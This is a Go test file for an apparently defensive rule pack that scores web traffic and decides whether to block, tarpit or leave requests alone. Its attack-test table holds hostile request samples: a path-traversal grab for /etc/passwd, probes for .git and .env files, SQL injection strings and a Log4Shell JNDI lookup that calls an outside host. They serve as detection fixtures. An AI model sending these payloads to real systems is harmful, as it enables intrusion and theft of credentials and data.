package rules

import (
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"time"

	"sundew"
)

func TestPackPassesItsOwnTests(t *testing.T) {
	for _, result := range starter(t).Test() {
		if !result.Passed {
			t.Errorf("%s:%d: %s: %s: %s", result.Path, result.Line, result.Rule, result.Name, result.Detail)
		}
	}
}

func TestPackNeedsNoAdvice(t *testing.T) {
	for _, problem := range Lint(Starter(), "pack") {
		t.Error(problem)
	}
}

func TestPackBringsNoLists(t *testing.T) {
	set := starter(t)
	if lists, allowed := set.Lists(), set.AllowList(start); len(lists)+len(allowed) != 0 {
		t.Errorf("lists %v, allowed %v", lists, allowed)
	}
	if len(set.Policies()) != 8 {
		t.Errorf("%d policies", len(set.Policies()))
	}
	if _, err := fs.Stat(Starter(), "ip-default.yaml"); err != nil {
		t.Error(err)
	}
}

// TestPackSparesSharedEntities gives each kind of entity all the evidence there can be.
func TestPackSparesSharedEntities(t *testing.T) {
	for _, test := range []struct {
		entity        sundew.Entity
		alone, shared sundew.Action
	}{
		{sundew.Entity{Kind: sundew.KindIP, Key: "192.0.2.1"}, sundew.ActionBlock, sundew.ActionTarpit},
		{sundew.Entity{Kind: sundew.KindPrefix, Key: "192.0.2.0/24"}, sundew.ActionTarpit, sundew.ActionTarpit},
		{sundew.Entity{Kind: sundew.KindFingerprint, Key: "t13d"}, sundew.ActionChallenge, sundew.ActionObserve},
		{sundew.Entity{Kind: sundew.KindDevice, Key: "d"}, sundew.ActionBlock, sundew.ActionBlock},
	} {
		for devices, want := range map[float64]sundew.Action{0: test.alone, 3: test.shared} {
			s := scored(0, 100)
			s.Entity, s.Nats = test.entity, 100
			s.Features[sundew.Requests1h], s.Features[sundew.TenuredDevices24h] = 1000, devices
			ds := NewEngine(starter(t), DefaultConfig()).Decide([]sundew.Score{s})
			if len(ds) != 1 || ds[0].Action != want {
				t.Errorf("%s with %v tenured devices: got %v, want %s", test.entity, devices, decisions(ds), want)
			}
		}
	}
}

// A visit is one request of a story.
type visit struct {
	status int
	method string
	target string
	agent  string
}

func get(status int, target string) visit { return visit{status: status, target: target} }

// hardest plays a story, one request a second, with features counted the simple way, and returns the hardest action.
func hardest(t *testing.T, set *Set, story []visit) (sundew.Action, string) {
	t.Helper()
	engine := NewEngine(set, DefaultConfig())
	var worst sundew.Decision
	var requests, errors, missing, denied float64
	paths := map[string]bool{}
	for i, v := range story {
		s := request(time.Duration(i)*time.Second, "")
		s.Event.Path, s.Event.Query, _ = strings.Cut(v.target, "?")
		s.Event.Status, s.Event.UserAgent = v.status, v.agent
		if v.method != "" {
			s.Event.Method = v.method
		}
		requests++
		paths[s.Event.Path] = true
		if v.status >= 400 && v.status < 500 {
			errors++
		}
		if v.status == 404 {
			missing++
		}
		if v.status == 401 || v.status == 403 {
			denied++
		}
		s.Features[sundew.Requests1m], s.Features[sundew.Requests10m], s.Features[sundew.Requests1h] = min(requests, 60), requests, requests
		s.Features[sundew.ClientErrors10m], s.Features[sundew.NotFound10m], s.Features[sundew.Denied10m] = errors, missing, denied
		s.Features[sundew.ClientErrorRatio10m] = errors / requests
		s.Features[sundew.DistinctPaths1h] = float64(len(paths))
		s.Features[sundew.DistinctUserAgents1h] = 1
		for _, d := range engine.Decide([]sundew.Score{s}) {
			if err := d.Validate(); err != nil {
				t.Fatal(err)
			}
			if !d.Shadow && d.Action > worst.Action {
				worst = d
			}
		}
	}
	return worst.Action, worst.RuleID() + ": " + worst.Sentence
}

func TestPackOnAttacks(t *testing.T) {
	set := starter(t)
	many := func(n int, status int, pattern string) []visit {
		var story []visit
		for i := range n {
			target := pattern
			if strings.Contains(pattern, "%d") {
				target = fmt.Sprintf(pattern, i)
			}
			story = append(story, get(status, target))
		}
		return story
	}
	posts := many(8, 200, "/wp-login.php")
	for i := range posts {
		posts[i].method = "POST"
	}
	for name, test := range map[string]struct {
		story []visit
		want  sundew.Action
	}{
		"one grab for the password file":  {many(1, 404, "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"), sundew.ActionTarpit},
		"one grab for a repository":       {many(1, 404, "/.git/HEAD"), sundew.ActionTarpit},
		"one union of selects":            {many(1, 200, "/item?id=1+union+select+1,2,3"), sundew.ActionTarpit},
		"one look-up of log4j":            {[]visit{{200, "GET", "/", "${jndi:ldap://198.51.100.9/x}"}}, sundew.ActionTarpit},
		"a few different grabs":           {[]visit{get(404, "/.env"), get(404, "/.git/config"), get(404, "/backup.zip"), get(404, "/vendor/phpunit/phpunit/phpunit.php")}, sundew.ActionBlock},
		"the same injection, three times": {many(3, 200, "/item?id=%d'+or+'1'='1"), sundew.ActionBlock},
		"a scanner that says so":          {[]visit{{200, "GET", "/", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"}}, sundew.ActionTarpit},
		"a word list":                     {many(40, 404, "/word%d"), sundew.ActionBlock},
		"a search for log-ins":            {[]visit{get(404, "/wp-login.php"), get(404, "/administrator/"), get(404, "/phpmyadmin/"), get(404, "/admin.php")}, sundew.ActionTarpit},
		"a password list at a form":       {posts, sundew.ActionTarpit},
		"a password list at a prompt":     {many(9, 401, "/private/"), sundew.ActionChallenge},
	} {
		t.Run(name, func(t *testing.T) {
			if got, why := hardest(t, set, test.story); got != test.want {
				t.Errorf("got %q, want %q; %s", got, test.want, why)
			}
		})
	}
}

// TestPackLeavesPeopleAlone: what ordinary people, apps and crawlers do must not be enforced.
func TestPackLeavesPeopleAlone(t *testing.T) {
	set := starter(t)
	page := []visit{get(200, "/")}
	for i := range 60 {
		page = append(page, get(200, fmt.Sprintf("/assets/chunk-%02d.js?v=1699999%d", i, i)))
	}
	icons := []visit{
		get(200, "/"), get(404, "/favicon.ico"), get(404, "/apple-touch-icon.png"), get(404, "/apple-touch-icon-precomposed.png"),
		get(404, "/robots.txt"), get(404, "/ads.txt"), get(404, "/sitemap.xml"), get(404, "/browserconfig.xml"), get(404, "/.well-known/security.txt"),
		get(404, "/.well-known/apple-app-site-association"), get(404, "/manifest.json"), get(404, "/feed/"),
	}
	gallery := []visit{get(200, "/albums/7")}
	var polls, moved []visit
	for i := range 80 {
		gallery = append(gallery, get(404, fmt.Sprintf("/Items/%d/Images/Primary?maxWidth=400", i)))
		polls = append(polls, get(304, "/api/v1/messages?since=1699999999"))
	}
	for i := range 30 {
		moved = append(moved, get(200, fmt.Sprintf("/blog/%d", i)), get(404, fmt.Sprintf("/old/post-%d.php", i)))
	}
	for name, story := range map[string][]visit{
		"a page with sixty assets":             page,
		"what browsers ask for by themselves":  icons,
		"a gallery whose pictures are missing": gallery,
		"an app that polls":                    polls,
		"a crawler with some dead links":       moved,
		"one old bookmark of a log-in":         {get(404, "/wp-login.php"), get(200, "/")},
		"one dead link to a script":            {get(404, "/Login.aspx")},
		"one climb in a link":                  {get(404, "/a/../b.html")},
		"a search for a tag":                   {get(200, "/search?q=%3Cbr%3E")},
		"a forgotten password":                 {get(401, "/login"), get(401, "/login"), get(401, "/login"), get(200, "/")},
		"a single sign-on":                     {get(302, "/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid+profile&state=a%2Bb%3D"), get(200, "/callback?code=4%2F0AX4&state=a%2Bb%3D")},
		"a redirect of a native app":           {get(302, "/oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A8089%2F")},
	} {
		t.Run(name, func(t *testing.T) {
			if got, why := hardest(t, set, story); got.Enforces() {
				t.Errorf("%s: %s", got, why)
			}
		})
	}
}

// TestPackUnderstandsLanguage: words of people that look a little like code, one after the other from one address.
func TestPackUnderstandsLanguage(t *testing.T) {
	set := starter(t)
	for _, query := range []string{
		"q=O%27Brien+or+O%27Neill", "q=rock+%27n%27+roll", "q=select+the+best+of+2024", "q=drop+off+table+for+kids",
		"q=how+to+order+by+phone", "q=union+station+and+select+hotels", "q=C%2B%2B+%26+C%23", "q=2+%3E+1+and+1+%3C+2",
		"q=%22exact+phrase%22+and+more", "q=the+id+of+a+cat%3B+more+later", "q=100%25+cotton", "q=sleep+better", "q=alert+fatigue",
		"q=javascript+on+click", "q=system+of+a+down", "q=insert+coin+into+slot", "q=where+is+it%3F", "q=%C3%A9t%C3%A9+%C3%A0+la+mer",
		"filter=price%20gt%2010%20and%20price%20lt%2020", "filter[status]=open&sort[]=-created&page[size]=20",
		"q=a%7Cb%7Cc", "fields=id,name,count(*)", "u=https%3A%2F%2Fexample.org%2Fpage%3Fa%3Db%26c%3Dd", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_",
		"cursor=WyIyMDI0LTAxLTAxIiwgMTJd", "json=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3Anull%7D", "ll=52.5200,13.4050&z=12", "time=12:30:00%2B02:00",
		"q=case+when+closed", "a=1&id&b=2;sort;host=x", "q=having+2+kids", "path=docs/readme.md", "file=report%20(final)%20v2.pdf", "tags=php,perl,python,sh",
	} {
		if got, why := hardest(t, set, []visit{get(200, "/search?"+query)}); got.Enforces() {
			t.Errorf("%s: %s: %s", query, got, why)
		}
	}
}

// TestNetworksAreTreatedMildly: a network is never refused and hardly ever slowed.
func TestNetworksAreTreatedMildly(t *testing.T) {
	set := starter(t)
	for points, want := range map[float64]sundew.Action{89: sundew.ActionNone, 95: sundew.ActionObserve, 100: sundew.ActionTarpit} {
		s := scored(0, points)
		s.Entity = sundew.Entity{Kind: sundew.KindPrefix, Key: "192.0.2.0/24"}
		got := sundew.ActionNone
		for _, d := range NewEngine(set, DefaultConfig()).Decide([]sundew.Score{s}) {
			got = d.Action
			if d.Delay > time.Second {
				t.Errorf("%v points: delay %s", points, d.Delay)
			}
		}
		if got != want {
			t.Errorf("%v points: %q, want %q", points, got, want)
		}
	}
}
